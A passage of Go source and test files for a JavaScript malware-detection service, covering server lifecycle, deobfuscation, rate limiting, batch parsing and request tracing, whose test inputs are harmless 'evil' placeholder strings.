		DrainTimeout:     *drainTimeout,
		QueueDir:         *queueDir,
		QueueWatermark:   *queueWatermark,
		QueueLease:       *queueLease,
		QueueMaxAttempts: *queueAttempts,
		TraceBuffer:      *traceBuffer,
		SlowTrace:        *slowTrace,
		ProfileDir:       *profileDir,
		AuditDir:         *auditDir,
		RulesDir:         *rulesDir,
		AlertWebhook:     *alertWebhook,
	}, obs.Default())
	if err != nil {
		return err
	}
	defer s.Close()

	ln, err := net.Listen("tcp", *addr)
	if err != nil {
		return err
	}
	if *readyFile != "" {
		if err := os.WriteFile(*readyFile, []byte(ln.Addr().String()), 0o644); err != nil {
			ln.Close()
			return err
		}
		// Remove on every exit path so repeated smoke runs never read a
		// stale address from a previous process.
		defer os.Remove(*readyFile)
	}

	ctx, stopSignals := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stopSignals()

	// SIGHUP hot-reloads the model — and, when -rules-dir is set, the rule
	// set — without dropping traffic. The two reloads are independent: a
	// broken rule directory keeps the old rules (and the fresh model), and
	// vice versa.
	hup := make(chan os.Signal, 1)
	signal.Notify(hup, syscall.SIGHUP)
	defer signal.Stop(hup)
	go func() {
		for range hup {
			v, err := s.Reload("")
			if err != nil {
				obs.DefaultLogger().Event(nil, obs.LevelError, "serve.reload",
					"trigger", "sighup", "error", err.Error())
			} else {
				obs.DefaultLogger().Event(nil, obs.LevelInfo, "serve.reload",
					"trigger", "sighup", "model", v.ModelPath, "sha256", v.SHA256)
			}
			if *rulesDir != "" {
				info, err := s.ReloadRules()
				if err != nil {
					obs.DefaultLogger().Event(nil, obs.LevelError, "serve.reload_rules",
						"trigger", "sighup", "error", err.Error())
					continue
				}
				obs.DefaultLogger().Event(nil, obs.LevelInfo, "serve.reload_rules",
					"trigger", "sighup", "dir", info.Dir, "rules", info.Rules, "gen", info.Gen)
			}
		}
	}()

	srv := &http.Server{Handler: requestLog(s.Handler())}
	errc := make(chan error, 1)
	go func() { errc <- srv.Serve(ln) }()
	fmt.Fprintf(os.Stderr, "jsrevealer: serving on http://%s (/metrics /healthz /detect /scan /jobs /version /admin/reload /admin/reload-rules /debug/pprof/)\n", ln.Addr())
	obs.DefaultLogger().Event(ctx, obs.LevelInfo, "serve.listening",
		"addr", ln.Addr().String(), "model", *model)

	select {
	case <-ctx.Done():
		obs.DefaultLogger().Event(nil, obs.LevelInfo, "serve.shutdown",
			"reason", "signal", "drain_timeout", drainTimeout.String())
		shutCtx, cancel := context.WithTimeout(context.Background(), *drainTimeout)
		defer cancel()
		// Stop admitting (healthz flips to draining) and let accepted async
		// jobs finish, then close the listener and wait for in-flight
		// requests — both bounded by the same drain budget.
		if err := s.Drain(shutCtx); err != nil {
			obs.DefaultLogger().Event(nil, obs.LevelWarn, "serve.drain",
				"error", err.Error())
		}
		return srv.Shutdown(shutCtx)
	case err := <-errc:
		if err == http.ErrServerClosed {
			return nil
		}
		return err
	}
}

// requestLog wraps h with structured access logging. It deliberately opens
// no span: serve's own tracing middleware owns the root span per endpoint,
// and a span here would shadow an incoming traceparent (a local parent
// always beats a remote context), cutting caller traces off from the
// server's spans.
func requestLog(h http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		start := time.Now()
		h.ServeHTTP(w, r)
		obs.DefaultLogger().Event(r.Context(), obs.LevelDebug, "http.request",
			"method", r.Method, "path", r.URL.Path, "elapsed", time.Since(start))
	})
}
