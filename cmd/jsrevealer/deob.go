package main

import (
	"context"
	"flag"
	"fmt"
	"io"
	"os"
	"time"

	"jsrevealer/internal/deobfuscate"
	"jsrevealer/internal/js/parser"
)

// runDeob runs the normalization pipeline standalone: one file (or stdin)
// in, normalized source on stdout, per-pass report on stderr. It is the
// inspection tool for the same pipeline `detect -deobfuscate` and
// `serve -deobfuscate` run in front of the classifier.
func runDeob(args []string) error {
	fs := flag.NewFlagSet("deob", flag.ContinueOnError)
	maxRounds := fs.Int("max-rounds", 0, "fixpoint round cap (0 = default)")
	maxNodes := fs.Int("max-nodes", 0, "tree-growth node budget (0 = default)")
	timeout := fs.Duration("timeout", 10*time.Second, "normalization deadline")
	if err := fs.Parse(args); err != nil {
		return err
	}
	var (
		src  []byte
		name string
		err  error
	)
	switch fs.NArg() {
	case 0:
		name = "<stdin>"
		src, err = io.ReadAll(os.Stdin)
	case 1:
		name = fs.Arg(0)
		src, err = os.ReadFile(name)
	default:
		return fmt.Errorf("deob: at most one input file (or stdin)")
	}
	if err != nil {
		return err
	}

	ctx, cancel := context.WithTimeout(context.Background(), *timeout)
	defer cancel()
	pipe := deobfuscate.NewPipeline(deobfuscate.Config{MaxRounds: *maxRounds, MaxNodes: *maxNodes})
	out, rep, err := pipe.Normalize(ctx, string(src), parser.Limits{})
	if err != nil {
		return fmt.Errorf("deob: %s: %w", name, err)
	}
	fmt.Print(out)

	fmt.Fprintf(os.Stderr, "jsrevealer: %s: %d rewrites in %d rounds", name, rep.Total(), rep.Rounds)
	if rep.Truncated != "" {
		fmt.Fprintf(os.Stderr, " (truncated: %s budget)", rep.Truncated)
	}
	fmt.Fprintln(os.Stderr)
	for _, s := range rep.Stats {
		if s.Changes == 0 {
			continue
		}
		fmt.Fprintf(os.Stderr, "jsrevealer:   pass %-10s runs=%d changes=%d (%s)\n",
			s.Name, s.Runs, s.Changes, s.Duration.Round(10*time.Microsecond))
	}
	return nil
}
