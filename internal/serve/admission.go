package serve

import (
	"math"
	"net"
	"net/http"
	"sync"
	"time"
)

// admission is the bounded admission queue in front of every work endpoint:
// at most slots requests execute concurrently, at most maxQueue more wait
// for a slot, and everything beyond that is fast-failed so load sheds at
// the door instead of piling up in goroutines.
type admission struct {
	slots    chan struct{}
	maxQueue int

	mu      sync.Mutex
	waiting int

	met *metrics
}

func newAdmission(slots, maxQueue int, met *metrics) *admission {
	return &admission{
		slots:    make(chan struct{}, slots),
		maxQueue: maxQueue,
		met:      met,
	}
}

// tryEnqueue claims a waiting-room place, or reports the queue full.
func (a *admission) tryEnqueue() bool {
	a.mu.Lock()
	defer a.mu.Unlock()
	if a.waiting >= a.maxQueue {
		return false
	}
	a.waiting++
	a.met.queueDepth.Set(float64(a.waiting))
	return true
}

func (a *admission) dequeue() {
	a.mu.Lock()
	a.waiting--
	a.met.queueDepth.Set(float64(a.waiting))
	a.mu.Unlock()
}

// acquire blocks until a concurrency slot is free, the waiting room is
// full, or the request context ends. It returns a release func on success;
// queueFull reports a fast-fail (release is nil and the caller should answer
// 429). When the context ended first, both are nil/false and the caller
// should just drop the request — the client is gone.
func (a *admission) acquire(done <-chan struct{}) (release func(), queueFull bool) {
	start := time.Now()
	// Fast path: a slot is free right now.
	select {
	case a.slots <- struct{}{}:
		a.met.queueWait.ObserveDuration(time.Since(start))
		return func() { <-a.slots }, false
	default:
	}
	if !a.tryEnqueue() {
		return nil, true
	}
	defer a.dequeue()
	select {
	case a.slots <- struct{}{}:
		a.met.queueWait.ObserveDuration(time.Since(start))
		return func() { <-a.slots }, false
	case <-done:
		return nil, false
	}
}

// tokenBucket is one client's rate-limit state.
type tokenBucket struct {
	tokens float64
	last   time.Time
}

// rateLimiter is a per-client token-bucket limiter keyed by the X-Client
// header (falling back to the remote address), refilling rate tokens per
// second up to burst. Idle buckets are swept so the map stays bounded by
// the active client set.
type rateLimiter struct {
	rate  float64
	burst float64

	mu        sync.Mutex
	buckets   map[string]*tokenBucket
	lastSweep time.Time
}

// bucketIdleTTL is how long an untouched client bucket survives before a
// sweep removes it. Any bucket idle this long has long since refilled to
// burst, so dropping it loses nothing.
const bucketIdleTTL = 5 * time.Minute

func newRateLimiter(rate float64, burst int) *rateLimiter {
	if burst < 1 {
		burst = 1
	}
	return &rateLimiter{
		rate:    rate,
		burst:   float64(burst),
		buckets: make(map[string]*tokenBucket),
	}
}

// allow spends one token for key, or reports how long until one refills.
func (l *rateLimiter) allow(key string, now time.Time) (ok bool, retryAfter time.Duration) {
	l.mu.Lock()
	defer l.mu.Unlock()
	if now.Sub(l.lastSweep) > bucketIdleTTL {
		for k, b := range l.buckets {
			if now.Sub(b.last) > bucketIdleTTL {
				delete(l.buckets, k)
			}
		}
		l.lastSweep = now
	}
	b, ok2 := l.buckets[key]
	if !ok2 {
		b = &tokenBucket{tokens: l.burst, last: now}
		l.buckets[key] = b
	}
	b.tokens = math.Min(l.burst, b.tokens+now.Sub(b.last).Seconds()*l.rate)
	b.last = now
	if b.tokens >= 1 {
		b.tokens--
		return true, 0
	}
	return false, time.Duration((1 - b.tokens) / l.rate * float64(time.Second))
}

// clientKey identifies the caller for rate limiting: the X-Client header
// when the gateway in front of us sets one, else the remote host.
func clientKey(r *http.Request) string {
	if c := r.Header.Get("X-Client"); c != "" {
		return c
	}
	host, _, err := net.SplitHostPort(r.RemoteAddr)
	if err != nil {
		return r.RemoteAddr
	}
	return host
}
