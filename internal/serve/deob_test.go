package serve

import (
	"encoding/json"
	"net/http"
	"strings"
	"testing"

	"jsrevealer/internal/deobfuscate"
	"jsrevealer/internal/scan"
)

// foldedSrc only reads "evil" after constant folding has glued the string
// halves together, so flagEvil tells deob-on and deob-off scans apart.
const foldedSrc = `var x = "ev" + "il"; x();`

func postDetect(t *testing.T, url, src string) map[string]any {
	t.Helper()
	resp, err := http.Post(url, "text/javascript", strings.NewReader(src))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("POST %s status = %d", url, resp.StatusCode)
	}
	var out map[string]any
	if err := json.NewDecoder(resp.Body).Decode(&out); err != nil {
		t.Fatal(err)
	}
	return out
}

// TestDetectDeobfuscateParam: ?deobfuscate= on /detect overrides the
// server's default per request, and deob_passes provenance appears in the
// response exactly when normalization changed what the classifier saw.
func TestDetectDeobfuscateParam(t *testing.T) {
	_, ts, _ := newTestServer(t, Config{
		ModelPath: "model",
		Loader:    stubLoader(map[string]scan.Classifier{"model": flagEvil}),
	})

	// Default (deob off): the split string hides "evil".
	plain := postDetect(t, ts.URL+"/detect", foldedSrc)
	if plain["malicious"] != false {
		t.Fatalf("deob-off detect = %+v, want benign", plain)
	}
	if _, ok := plain["deob_passes"]; ok {
		t.Fatalf("deob-off response carries deob_passes: %+v", plain)
	}

	// Per-request opt-in: folding reassembles "evil" and provenance names
	// the passes that fired.
	on := postDetect(t, ts.URL+"/detect?deobfuscate=1", foldedSrc)
	if on["malicious"] != true {
		t.Fatalf("deob-on detect = %+v, want malicious", on)
	}
	passes, ok := on["deob_passes"].([]any)
	if !ok || len(passes) == 0 {
		t.Fatalf("deob-on response missing deob_passes: %+v", on)
	}

	// Unparseable values are the client's fault.
	resp, err := http.Post(ts.URL+"/detect?deobfuscate=maybe", "text/javascript", strings.NewReader(foldedSrc))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusBadRequest {
		t.Fatalf("deobfuscate=maybe status = %d, want 400", resp.StatusCode)
	}
}

// TestDetectDeobfuscateOptOut: a server configured with deobfuscation on
// honors a per-request ?deobfuscate=0.
func TestDetectDeobfuscateOptOut(t *testing.T) {
	cfg := Config{
		ModelPath: "model",
		Loader:    stubLoader(map[string]scan.Classifier{"model": flagEvil}),
	}
	cfg.Scan.Deobfuscate = deobfuscate.Config{Enabled: true}
	_, ts, _ := newTestServer(t, cfg)

	on := postDetect(t, ts.URL+"/detect", foldedSrc)
	if on["malicious"] != true {
		t.Fatalf("default-on detect = %+v, want malicious", on)
	}
	off := postDetect(t, ts.URL+"/detect?deobfuscate=0", foldedSrc)
	if off["malicious"] != false {
		t.Fatalf("opted-out detect = %+v, want benign", off)
	}
	if _, ok := off["deob_passes"]; ok {
		t.Fatalf("opted-out response carries deob_passes: %+v", off)
	}
}

// TestScanDeobfuscateParam: the same per-request override on the streaming
// batch endpoint, with deob_passes threaded into each NDJSON line.
func TestScanDeobfuscateParam(t *testing.T) {
	_, ts, _ := newTestServer(t, Config{
		ModelPath: "model",
		Loader:    stubLoader(map[string]scan.Classifier{"model": flagEvil}),
	})
	line, _ := json.Marshal(record{Name: "folded.js", Source: foldedSrc})
	body := string(line) + "\n"

	resp, err := http.Post(ts.URL+"/scan?deobfuscate=true", "application/x-ndjson", strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("/scan status = %d", resp.StatusCode)
	}
	lines := decodeLines(t, resp.Body)
	l, ok := lines["folded.js"]
	if !ok || !l.Malicious {
		t.Fatalf("deob-on scan lines = %+v, want folded.js malicious", lines)
	}
	if len(l.DeobPasses) == 0 {
		t.Fatalf("NDJSON line missing deob_passes: %+v", l)
	}

	// Without the override the same batch stays benign.
	resp2, err := http.Post(ts.URL+"/scan", "application/x-ndjson", strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	defer resp2.Body.Close()
	if l := decodeLines(t, resp2.Body)["folded.js"]; l.Malicious || len(l.DeobPasses) != 0 {
		t.Fatalf("deob-off scan line = %+v, want benign with no passes", l)
	}

	// Invalid values 400 before any work is admitted.
	resp3, err := http.Post(ts.URL+"/scan?deobfuscate=nope", "application/x-ndjson", strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	resp3.Body.Close()
	if resp3.StatusCode != http.StatusBadRequest {
		t.Fatalf("deobfuscate=nope status = %d, want 400", resp3.StatusCode)
	}
}
