package serve

import (
	"net/http"

	"jsrevealer/internal/obs"
)

// The /debug/traces surface: the in-process trace store rendered as JSON.
// GET /debug/traces lists recently finished traces (newest first, slow
// traces retained with bias); GET /debug/traces/{id} renders one trace as
// a waterfall — spans sorted by start time with parent links, attributes,
// events, and error status. Like the pprof endpoints these are un-gated:
// they must keep answering under overload, which is exactly when traces
// are wanted.

// handleTraces lists retained trace summaries.
func (s *Server) handleTraces(w http.ResponseWriter, _ *http.Request) {
	if s.traces == nil {
		writeJSONError(w, http.StatusNotFound, "trace retention is disabled")
		return
	}
	writeJSON(w, http.StatusOK, map[string]any{
		"count":  s.traces.Len(),
		"traces": s.traces.Traces(),
	})
}

// handleTraceGet renders one trace's waterfall.
func (s *Server) handleTraceGet(w http.ResponseWriter, r *http.Request) {
	if s.traces == nil {
		writeJSONError(w, http.StatusNotFound, "trace retention is disabled")
		return
	}
	id := r.PathValue("id")
	if _, ok := obs.ParseTraceID(id); !ok {
		writeJSONError(w, http.StatusBadRequest, "trace id must be 32 hex characters")
		return
	}
	tr, ok := s.traces.Get(id)
	if !ok {
		writeJSONError(w, http.StatusNotFound, "trace not retained (evicted or never seen)")
		return
	}
	writeJSON(w, http.StatusOK, tr)
}
