package serve

import (
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"mime"
	"net/http"
	"strings"

	"jsrevealer/internal/rules"
	"jsrevealer/internal/scan"
)

// record is one script in a batch submission: a line of the NDJSON body or
// one multipart file part.
type record struct {
	Name   string `json:"name"`
	Source string `json:"source"`
}

// verdictLine is one streamed NDJSON result line, and the per-script result
// representation stored by async jobs.
type verdictLine struct {
	Name       string      `json:"name"`
	Verdict    string      `json:"verdict"`
	Malicious  bool        `json:"malicious"`
	Tier       string      `json:"tier,omitempty"`
	DeobPasses []string    `json:"deob_passes,omitempty"`
	RuleHits   []rules.Hit `json:"rule_hits,omitempty"`
	Reason     string      `json:"reason,omitempty"`
	Error      string      `json:"error,omitempty"`
	Bytes      int64       `json:"bytes"`
	DurationMS float64     `json:"duration_ms"`
}

// toLine renders a scan result as its NDJSON line.
func toLine(r scan.Result) verdictLine {
	l := verdictLine{
		Name:       r.Path,
		Verdict:    r.Verdict.String(),
		Malicious:  r.Malicious,
		Tier:       r.Tier,
		DeobPasses: r.DeobPasses,
		RuleHits:   r.RuleHits,
		Bytes:      r.Bytes,
		DurationMS: float64(r.Duration.Microseconds()) / 1000,
	}
	if r.Err != nil {
		l.Error = r.Err.Error()
		l.Reason = scan.Reason(r.Err)
	}
	return l
}

// batchError is a client-attributable batch parse failure carrying the
// status code the handler should answer with.
type batchError struct {
	status int
	msg    string
}

func (e *batchError) Error() string { return e.msg }

// parseBatch reads a batch submission from r: concatenated NDJSON
// {"name","source"} records, or multipart/form-data with one script per
// part. The body is already wrapped in http.MaxBytesReader by the caller;
// maxBatch caps the record count so a single request cannot enqueue
// unbounded work.
func parseBatch(r *http.Request, maxBatch int) ([]scan.Source, error) {
	ct, _, _ := mime.ParseMediaType(r.Header.Get("Content-Type"))
	if strings.HasPrefix(ct, "multipart/") {
		return parseMultipart(r, maxBatch)
	}
	return parseNDJSON(r.Body, maxBatch)
}

func parseNDJSON(body io.Reader, maxBatch int) ([]scan.Source, error) {
	var srcs []scan.Source
	dec := json.NewDecoder(body)
	for {
		var rec record
		err := dec.Decode(&rec)
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			if isBodyTooLarge(err) {
				return nil, &batchError{http.StatusRequestEntityTooLarge, "request body exceeds the size limit"}
			}
			return nil, &batchError{http.StatusBadRequest,
				fmt.Sprintf("record %d: invalid NDJSON: %v", len(srcs), err)}
		}
		if len(srcs) >= maxBatch {
			return nil, &batchError{http.StatusRequestEntityTooLarge,
				fmt.Sprintf("batch exceeds %d scripts", maxBatch)}
		}
		if rec.Name == "" {
			rec.Name = fmt.Sprintf("script-%d.js", len(srcs))
		}
		srcs = append(srcs, scan.Source{Name: rec.Name, Content: rec.Source})
	}
	if len(srcs) == 0 {
		return nil, &batchError{http.StatusBadRequest, "empty batch: no records"}
	}
	return srcs, nil
}

func parseMultipart(r *http.Request, maxBatch int) ([]scan.Source, error) {
	mr, err := r.MultipartReader()
	if err != nil {
		return nil, &batchError{http.StatusBadRequest, fmt.Sprintf("invalid multipart body: %v", err)}
	}
	var srcs []scan.Source
	for {
		part, err := mr.NextPart()
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			if isBodyTooLarge(err) {
				return nil, &batchError{http.StatusRequestEntityTooLarge, "request body exceeds the size limit"}
			}
			return nil, &batchError{http.StatusBadRequest, fmt.Sprintf("invalid multipart body: %v", err)}
		}
		if len(srcs) >= maxBatch {
			part.Close()
			return nil, &batchError{http.StatusRequestEntityTooLarge,
				fmt.Sprintf("batch exceeds %d scripts", maxBatch)}
		}
		data, err := io.ReadAll(part)
		part.Close()
		if err != nil {
			if isBodyTooLarge(err) {
				return nil, &batchError{http.StatusRequestEntityTooLarge, "request body exceeds the size limit"}
			}
			return nil, &batchError{http.StatusBadRequest, fmt.Sprintf("reading part: %v", err)}
		}
		name := part.FileName()
		if name == "" {
			name = part.FormName()
		}
		if name == "" {
			name = fmt.Sprintf("script-%d.js", len(srcs))
		}
		srcs = append(srcs, scan.Source{Name: name, Content: string(data)})
	}
	if len(srcs) == 0 {
		return nil, &batchError{http.StatusBadRequest, "empty batch: no parts"}
	}
	return srcs, nil
}

// isBodyTooLarge detects the error http.MaxBytesReader injects when the
// request body crosses the configured byte limit.
func isBodyTooLarge(err error) bool {
	var mbe *http.MaxBytesError
	return errors.As(err, &mbe)
}
