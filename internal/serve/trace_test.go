package serve

import (
	"bufio"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"jsrevealer/internal/audit"
	"jsrevealer/internal/obs"
	"jsrevealer/internal/scan"
)

// getTrace fetches /debug/traces/{id}, polling briefly: the root span is
// recorded by a deferred End that can trail the response body by a moment.
func getTrace(t *testing.T, url, id string, wantSpans int) obs.Trace {
	t.Helper()
	deadline := time.Now().Add(2 * time.Second)
	for {
		resp, err := http.Get(url + "/debug/traces/" + id)
		if err != nil {
			t.Fatal(err)
		}
		var tr obs.Trace
		code := resp.StatusCode
		if code == http.StatusOK {
			if err := json.NewDecoder(resp.Body).Decode(&tr); err != nil {
				t.Fatal(err)
			}
		}
		resp.Body.Close()
		if code == http.StatusOK && len(tr.Spans) >= wantSpans {
			return tr
		}
		if time.Now().After(deadline) {
			t.Fatalf("trace %s: status %d, %d spans (want >= %d)", id, code, len(tr.Spans), wantSpans)
		}
		time.Sleep(10 * time.Millisecond)
	}
}

// auditLines reads every record from the server's audit directory.
func auditLines(t *testing.T, s *Server, dir string) []audit.Record {
	t.Helper()
	if err := s.audit.Sync(); err != nil {
		t.Fatal(err)
	}
	f, err := os.Open(filepath.Join(dir, audit.ActiveFile))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var recs []audit.Record
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		var r audit.Record
		if err := json.Unmarshal(sc.Bytes(), &r); err != nil {
			t.Fatalf("bad audit line %q: %v", sc.Text(), err)
		}
		recs = append(recs, r)
	}
	return recs
}

// TestTraceparentRoundTrip is the tentpole's end-to-end contract: a scan
// submitted with a caller traceparent is retrievable from /debug/traces
// under the caller's trace id, with the serve root span and the engine's
// scan.file span linked into one waterfall, response headers echoing the
// trace, and a matching audit line carrying the same trace id and the
// content's SHA-256.
func TestTraceparentRoundTrip(t *testing.T) {
	auditDir := t.TempDir()
	s, ts, _ := newTestServer(t, Config{
		ModelPath: "model",
		Loader:    stubLoader(map[string]scan.Classifier{"model": flagEvil}),
		AuditDir:  auditDir,
	})

	callerTrace := obs.NewTraceID()
	parent := obs.SpanContext{TraceID: callerTrace, SpanID: 0xabcdef, Sampled: true}
	req, _ := http.NewRequest("POST", ts.URL+"/scan", strings.NewReader(ndjsonBatch("evil-a.js")))
	req.Header.Set("Content-Type", "application/x-ndjson")
	req.Header.Set("traceparent", parent.Traceparent())
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	lines := decodeLines(t, resp.Body)
	resp.Body.Close()
	if len(lines) != 1 || !lines["evil-a.js"].Malicious {
		t.Fatalf("verdicts = %+v", lines)
	}

	// Response headers carry the joined trace and a request id.
	tp := resp.Header.Get("traceparent")
	if !strings.Contains(tp, callerTrace.String()) {
		t.Errorf("response traceparent %q does not carry caller trace %s", tp, callerTrace)
	}
	if resp.Header.Get("X-Request-Id") != callerTrace.String() {
		t.Errorf("X-Request-Id = %q, want the trace id", resp.Header.Get("X-Request-Id"))
	}

	// The waterfall: serve.scan root plus the engine's scan.file beneath it.
	tr := getTrace(t, ts.URL, callerTrace.String(), 2)
	if tr.Root != "serve.scan" {
		t.Errorf("trace root = %q, want serve.scan", tr.Root)
	}
	byName := map[string]obs.SpanRecord{}
	for _, sp := range tr.Spans {
		byName[sp.Name] = sp
	}
	root, ok := byName["serve.scan"]
	if !ok {
		t.Fatalf("no serve.scan span in %+v", tr.Spans)
	}
	if root.ParentID != obs.FormatSpanID(0xabcdef) {
		t.Errorf("root parent = %q, want the caller's span id", root.ParentID)
	}
	file, ok := byName["scan.file"]
	if !ok {
		t.Fatalf("no scan.file span in %+v", tr.Spans)
	}
	if file.ParentID != root.SpanID {
		t.Errorf("scan.file parent %q != serve.scan span %q", file.ParentID, root.SpanID)
	}

	// The audit line: same trace, right content digest, full provenance.
	recs := auditLines(t, s, auditDir)
	if len(recs) != 1 {
		t.Fatalf("got %d audit records, want 1", len(recs))
	}
	r := recs[0]
	sum := sha256.Sum256([]byte("evil();"))
	if r.SHA256 != hex.EncodeToString(sum[:]) {
		t.Errorf("audit sha = %s, want the script digest", r.SHA256)
	}
	if r.TraceID != callerTrace.String() {
		t.Errorf("audit trace id = %s, want %s", r.TraceID, callerTrace)
	}
	if r.Verdict != "MALICIOUS" || r.Tier != "pipeline" || r.Source != "scan" {
		t.Errorf("audit record = %+v", r)
	}
	if r.Model == "" {
		t.Error("audit record missing the model generation")
	}
	if r.RequestID != callerTrace.String() {
		t.Errorf("audit request id = %q", r.RequestID)
	}
}

// TestFreshTraceWithoutTraceparent: a request without caller trace context
// still gets a trace — minted server-side — and the /debug/traces listing
// shows it.
func TestFreshTraceWithoutTraceparent(t *testing.T) {
	_, ts, _ := newTestServer(t, Config{
		ModelPath: "model",
		Loader:    stubLoader(map[string]scan.Classifier{"model": flagEvil}),
	})
	resp, err := http.Post(ts.URL+"/scan", "application/x-ndjson",
		strings.NewReader(ndjsonBatch("a.js")))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	sc, ok := obs.ParseTraceparent(resp.Header.Get("traceparent"))
	if !ok {
		t.Fatalf("response traceparent %q unparseable", resp.Header.Get("traceparent"))
	}
	tr := getTrace(t, ts.URL, sc.TraceID.String(), 2)
	if tr.Root != "serve.scan" {
		t.Errorf("root = %q", tr.Root)
	}

	var listing struct {
		Count  int                `json:"count"`
		Traces []obs.TraceSummary `json:"traces"`
	}
	lresp, err := http.Get(ts.URL + "/debug/traces")
	if err != nil {
		t.Fatal(err)
	}
	if err := json.NewDecoder(lresp.Body).Decode(&listing); err != nil {
		t.Fatal(err)
	}
	lresp.Body.Close()
	if listing.Count < 1 || len(listing.Traces) < 1 {
		t.Errorf("listing = %+v, want at least the scan trace", listing)
	}
}

func TestTraceEndpointRejects(t *testing.T) {
	_, ts, _ := newTestServer(t, Config{})
	for path, want := range map[string]int{
		"/debug/traces/not-hex": http.StatusBadRequest,
		"/debug/traces/" + strings.Repeat("ab", 16): http.StatusNotFound,
	} {
		resp, err := http.Get(ts.URL + path)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != want {
			t.Errorf("GET %s = %d, want %d", path, resp.StatusCode, want)
		}
	}

	// TraceBuffer < 0 disables retention entirely.
	_, tsOff, _ := newTestServer(t, Config{TraceBuffer: -1})
	resp, err := http.Get(tsOff.URL + "/debug/traces")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusNotFound {
		t.Errorf("disabled /debug/traces = %d, want 404", resp.StatusCode)
	}
}

// TestErrorBodiesCarryRequestID: every error answer (429 from admission,
// 413 from the body cap, 503 while draining, 410 for evicted jobs) names
// the request id — the caller-supplied X-Request-Id when present, the
// trace id otherwise.
func TestErrorBodiesCarryRequestID(t *testing.T) {
	s, ts, _ := newTestServer(t, Config{
		ModelPath:  "model",
		Loader:     stubLoader(map[string]scan.Classifier{"model": flagEvil}),
		MaxBody:    128,
		RatePerSec: 0.001, Burst: 1, // second request within the window is shed
	})

	errBody := func(t *testing.T, resp *http.Response) map[string]string {
		t.Helper()
		defer resp.Body.Close()
		var body map[string]string
		if err := json.NewDecoder(resp.Body).Decode(&body); err != nil {
			t.Fatal(err)
		}
		return body
	}

	// 413: over the body cap, with a caller-supplied request id echoed.
	big := `{"name":"big.js","source":"` + strings.Repeat("x", 512) + `"}`
	req, _ := http.NewRequest("POST", ts.URL+"/scan", strings.NewReader(big))
	req.Header.Set("X-Request-Id", "caller-chose-this")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != http.StatusRequestEntityTooLarge {
		t.Fatalf("oversized body status = %d", resp.StatusCode)
	}
	if body := errBody(t, resp); body["request_id"] != "caller-chose-this" {
		t.Errorf("413 body = %v, want the caller's request id", body)
	}
	if resp.Header.Get("X-Request-Id") != "caller-chose-this" {
		t.Errorf("413 X-Request-Id header = %q", resp.Header.Get("X-Request-Id"))
	}

	// 429: the token bucket is spent; the body still names a request id.
	resp, err = http.Post(ts.URL+"/scan", "application/x-ndjson", strings.NewReader(ndjsonBatch("a.js")))
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != http.StatusTooManyRequests {
		t.Fatalf("rate-limited status = %d, want 429", resp.StatusCode)
	}
	if body := errBody(t, resp); body["request_id"] == "" {
		t.Error("429 body has no request_id")
	}

	// 503: draining.
	s.draining.Store(true)
	resp, err = http.Post(ts.URL+"/scan", "application/x-ndjson", strings.NewReader(ndjsonBatch("a.js")))
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != http.StatusServiceUnavailable {
		t.Fatalf("draining status = %d, want 503", resp.StatusCode)
	}
	if body := errBody(t, resp); body["request_id"] == "" {
		t.Error("503 body has no request_id")
	}
	s.draining.Store(false)
}

// TestInMemoryJobAudited: the async in-memory job path stamps its verdicts
// with job provenance — source "jobs" and the job id.
func TestInMemoryJobAudited(t *testing.T) {
	auditDir := t.TempDir()
	s, ts, _ := newTestServer(t, Config{
		ModelPath: "model",
		Loader:    stubLoader(map[string]scan.Classifier{"model": flagEvil}),
		AuditDir:  auditDir,
	})
	id := submitJob(t, ts, "evil-a.js")
	if v := pollJob(t, ts, id); v.State != JobDone {
		t.Fatalf("job = %+v", v)
	}
	recs := auditLines(t, s, auditDir)
	if len(recs) != 1 {
		t.Fatalf("got %d audit records, want 1", len(recs))
	}
	if recs[0].Source != "jobs" || recs[0].Job != id || recs[0].Verdict != "MALICIOUS" {
		t.Errorf("job audit record = %+v", recs[0])
	}
	if recs[0].TraceID == "" {
		t.Error("job audit record has no trace id")
	}
}

// TestDurableTraceSurvivesRestart: the traceparent persisted in a durable
// job's WAL record means a job re-delivered after kill -9 still joins the
// submitting request's trace — the restarted process's job.run span carries
// the original trace id even though that request hit a process that no
// longer exists.
func TestDurableTraceSurvivesRestart(t *testing.T) {
	dir := t.TempDir()
	entered := make(chan struct{}, 4)
	release := make(chan struct{})
	cfg := Config{
		ModelPath:  "model",
		Loader:     stubLoader(map[string]scan.Classifier{"model": selectiveBlock(entered, release)}),
		QueueDir:   dir,
		JobWorkers: 1,
		QueueLease: 200 * time.Millisecond,
	}
	s1, ts1, _ := newTestServer(t, cfg)

	// Submit a traced job that parks mid-scan on the only worker.
	callerTrace := obs.NewTraceID()
	parent := obs.SpanContext{TraceID: callerTrace, SpanID: 0x1234, Sampled: true}
	req, _ := http.NewRequest("POST", ts1.URL+"/jobs",
		strings.NewReader(`{"name":"stuck.js","source":"block(); evil();"}`+"\n"))
	req.Header.Set("Content-Type", "application/x-ndjson")
	req.Header.Set("traceparent", parent.Traceparent())
